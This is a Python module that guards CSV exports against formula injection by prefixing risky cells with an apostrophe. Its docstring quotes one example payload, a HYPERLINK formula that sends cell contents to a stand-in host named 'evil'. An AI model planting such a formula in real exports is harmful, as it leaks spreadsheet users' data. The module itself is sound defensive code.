"""CSV that a spreadsheet opens as data, never as formulas (OWASP's advice on CSV injection).

A cell that starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return is a formula to
Excel, LibreOffice and Google Sheets: ``=HYPERLINK("http://evil/?"&A1, "click")`` in a use-case
name would leak the sheet, or run a command through DDE. Such a cell gets a leading apostrophe,
which spreadsheets show as text; the csv module quotes what needs quoting.
"""

from __future__ import annotations

import csv
from collections.abc import Iterable, Mapping, Sequence
from typing import IO, Any

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def spreadsheet_safe(value: Any) -> Any:
    """``value`` unchanged, unless it is text a spreadsheet would read as a formula."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


class SafeCsvWriter:
    """``csv.writer`` whose every text cell passes through :func:`spreadsheet_safe`."""

    def __init__(self, stream: IO[str], **options: Any) -> None:
        self._writer = csv.writer(stream, **options)

    def writerow(self, row: Sequence[Any]) -> None:
        self._writer.writerow([spreadsheet_safe(cell) for cell in row])

    def writerows(self, rows: Iterable[Sequence[Any]]) -> None:
        for row in rows:
            self.writerow(row)


class SafeCsvDictWriter:
    """``csv.DictWriter`` whose every text cell passes through :func:`spreadsheet_safe`."""

    def __init__(self, stream: IO[str], fieldnames: Sequence[str], **options: Any) -> None:
        self._writer = csv.DictWriter(stream, fieldnames=fieldnames, **options)

    def writeheader(self) -> None:
        self._writer.writeheader()

    def writerow(self, row: Mapping[str, Any]) -> None:
        self._writer.writerow({k: spreadsheet_safe(v) for k, v in row.items()})
